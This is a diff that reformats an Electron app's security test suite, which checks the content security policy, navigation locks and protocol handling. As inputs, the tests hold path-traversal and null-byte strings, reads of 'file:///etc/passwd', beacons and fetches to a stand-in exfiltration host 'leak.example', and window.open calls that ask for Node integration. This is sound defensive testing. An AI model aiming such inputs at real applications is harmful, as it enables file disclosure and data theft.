@@ -1,5 +1,6 @@
 /**
- * The restrictions of our pages by policy in the real program, whatever runs in them. SECURITY.md maps the tests to Electron's security checklist.
+ * The restrictions of our pages by policy in the real program, whatever runs in them. SECURITY.md maps the tests to Electron's security
+ * checklist.
  */
 import { readdirSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
@@ -14,7 +15,18 @@ const built = resolve(import.meta.dirname, '../../out/renderer');
 async function expectAnswers(app: RunningApp): Promise<void> {
   const files = readdirSync(built, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(html|js|css|woff2)$/.test(name));
   expect(files.length).toBeGreaterThan(5);
-  const outside = ['', 'package.json', '../main/index.js', '%2e%2e/main/index.js', '..%2fmain%2findex.js', '..%5cmain%5cindex.js', '%2e%2e%2f%2e%2e%2fpackage.json', '%e0%a4%a', 'popover/index.html%00.js', 'not-there.js'];
+  const outside = [
+    '',
+    'package.json',
+    '../main/index.js',
+    '%2e%2e/main/index.js',
+    '..%2fmain%2findex.js',
+    '..%5cmain%5cindex.js',
+    '%2e%2e%2f%2e%2e%2fpackage.json',
+    '%e0%a4%a',
+    'popover/index.html%00.js',
+    'not-there.js',
+  ];
   const answers = await app.electron.evaluate(
     async ({ session }, names) =>
       Promise.all(
@@ -29,10 +41,13 @@ async function expectAnswers(app: RunningApp): Promise<void> {
     ...files.map((name) => ({ name, status: 200, policy: contentSecurityPolicy, sniffing: 'nosniff' })),
     ...outside.map((name) => ({ name, status: 404, policy: contentSecurityPolicy, sniffing: 'nosniff' })),
   ]);
-  const elsewhere = await app.electron.evaluate(async ({ session }, addresses) => {
-    const outcomes = await Promise.allSettled(addresses.map(async (address) => session.defaultSession.fetch(address)));
-    return outcomes.map(({ status }) => status);
-  }, ['app://elsewhere/popover/index.html', 'file:///etc/passwd', 'http://127.0.0.1:1/', 'https://leak.example/']);
+  const elsewhere = await app.electron.evaluate(
+    async ({ session }, addresses) => {
+      const outcomes = await Promise.allSettled(addresses.map(async (address) => session.defaultSession.fetch(address)));
+      return outcomes.map(({ status }) => status);
+    },
+    ['app://elsewhere/popover/index.html', 'file:///etc/passwd', 'http://127.0.0.1:1/', 'https://leak.example/'],
+  );
   expect(elsewhere).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
 }
 
@@ -101,7 +116,10 @@ test('no text becomes a script, and nothing is loaded from elsewhere, in any pag
       add('base', { href: 'https://leak.example/' });
       add('video', { src: 'https://leak.example/x.mp4' });
       add('link', { rel: 'manifest', href: 'https://leak.example/x.json' });
-      const fetched = await fetch('https://leak.example/').then(() => 'answered', () => 'refused');
+      const fetched = await fetch('https://leak.example/').then(
+        () => 'answered',
+        () => 'refused',
+      );
       const posted = navigator.sendBeacon('https://leak.example/', 'x');
       return { ran, went, fetched, posted, base: document.baseURI.startsWith('app://clocktower/') };
     });
@@ -111,7 +129,19 @@ test('no text becomes a script, and nothing is loaded from elsewhere, in any pag
     // Reported in separate turns by Chromium.
     await expect
       .poll(async () => page.evaluate(() => [...Reflect.get(globalThis, 'violations')]))
-      .toEqual(expect.arrayContaining(['require-trusted-types-for', 'trusted-types', 'style-src-elem', 'style-src-attr', 'base-uri', 'connect-src', 'img-src', 'media-src', 'frame-src']));
+      .toEqual(
+        expect.arrayContaining([
+          'require-trusted-types-for',
+          'trusted-types',
+          'style-src-elem',
+          'style-src-attr',
+          'base-uri',
+          'connect-src',
+          'img-src',
+          'media-src',
+          'frame-src',
+        ]),
+      );
   }
   app.problems.splice(0);
 });
@@ -140,7 +170,13 @@ async function watch(app: RunningApp): Promise<() => Promise<Watched>> {
     });
   });
   const schema = z.object({ wanted: z.array(z.string()), gone: z.array(z.string()), downloads: z.number(), windows: z.number() });
-  return async () => schema.parse(await app.electron.evaluate(({ BrowserWindow }) => ({ ...Reflect.get(globalThis, 'seen'), windows: BrowserWindow.getAllWindows().length })));
+  return async () =>
+    schema.parse(
+      await app.electron.evaluate(({ BrowserWindow }) => ({
+        ...Reflect.get(globalThis, 'seen'),
+        windows: BrowserWindow.getAllWindows().length,
+      })),
+    );
 }
 
 test('a page stays where it is, whatever is clicked, dropped or written into it', async ({ startApp, absence, profile }) => {
@@ -151,7 +187,13 @@ test('a page stays where it is, whatever is clicked, dropped or written into it'
   writeFileSync(dropped, '<title>dropped</title>');
   for (const page of pages) {
     const url = page.url();
-    for (const address of ['https://leak.example/location', 'http://127.0.0.1:1/', 'app://elsewhere/', 'clocktower://start', 'mailto:a@leak.example']) {
+    for (const address of [
+      'https://leak.example/location',
+      'http://127.0.0.1:1/',
+      'app://elsewhere/',
+      'clocktower://start',
+      'mailto:a@leak.example',
+    ]) {
       await page.evaluate((to) => {
         location.href = to;
       }, address);
@@ -165,9 +207,20 @@ test('a page stays where it is, whatever is clicked, dropped or written into it'
       meta.content = '0; url=https://leak.example/refresh';
       document.head.append(meta);
     });
-    await expect.poll(async () => (await report()).wanted.filter((wanted) => wanted.endsWith('/refresh')).length).toBe(pages.indexOf(page) + 1);
-    const addresses = ['https://leak.example/open', 'app://clocktower/window/index.html', 'about:blank', 'file:///etc/passwd', 'javascript:1'];
-    const opened = await page.evaluate((all) => all.filter((address) => window.open(address, '_blank', 'nodeIntegration=yes,contextIsolation=no,sandbox=no') !== null), addresses);
+    await expect
+      .poll(async () => (await report()).wanted.filter((wanted) => wanted.endsWith('/refresh')).length)
+      .toBe(pages.indexOf(page) + 1);
+    const addresses = [
+      'https://leak.example/open',
+      'app://clocktower/window/index.html',
+      'about:blank',
+      'file:///etc/passwd',
+      'javascript:1',
+    ];
+    const opened = await page.evaluate(
+      (all) => all.filter((address) => window.open(address, '_blank', 'nodeIntegration=yes,contextIsolation=no,sandbox=no') !== null),
+      addresses,
+    );
     expect(opened).toEqual([]);
     await page.evaluate(() => {
       const link = document.createElement('a');
@@ -213,7 +266,11 @@ test('every answer carries the policy, no page embeds another, and no frame with
     const webview = document.createElement('webview');
     webview.setAttribute('src', 'https://leak.example/');
     document.body.append(webview);
-    return { bridge: frame.contentWindow !== null && 'clocktower' in frame.contentWindow, shadow: webview.shadowRoot !== null, own: 'getWebContentsId' in webview };
+    return {
+      bridge: frame.contentWindow !== null && 'clocktower' in frame.contentWindow,
+      shadow: webview.shadowRoot !== null,
+      own: 'getWebContentsId' in webview,
+    };
   });
   expect(frames).toEqual({ bridge: false, shadow: false, own: false });
   // Windows with weaker preferences than ours, to test the other restrictions.
@@ -241,8 +298,16 @@ test('every answer carries the policy, no page embeds another, and no frame with
   expect(await foreign.evaluate(async () => window.clocktower?.startTimer({ description: 'foreign', at: null }))).toEqual(refused);
   // Pages on our origin without our policy: even then no frame in them navigates.
   await app.electron.evaluate(({ session }) => {
-    const pages = new Map([['/outer', '<iframe src="app://clocktower/inner"></iframe>'], ['/inner', 'inner']]);
-    session.fromPartition('elsewhere').protocol.handle('app', (request) => new Response(pages.get(new URL(request.url).pathname), { headers: { 'content-type': 'text/html' } }));
+    const pages = new Map([
+      ['/outer', '<iframe src="app://clocktower/inner"></iframe>'],
+      ['/inner', 'inner'],
+    ]);
+    session
+      .fromPartition('elsewhere')
+      .protocol.handle(
+        'app',
+        (request) => new Response(pages.get(new URL(request.url).pathname), { headers: { 'content-type': 'text/html' } }),
+      );
   });
   const outer = await careless('app://clocktower/outer', { partition: 'elsewhere', nodeIntegrationInSubFrames: true, webviewTag: true });
   expect(await outer.evaluate(async () => window.clocktower?.getView())).toMatchObject({ ok: true });
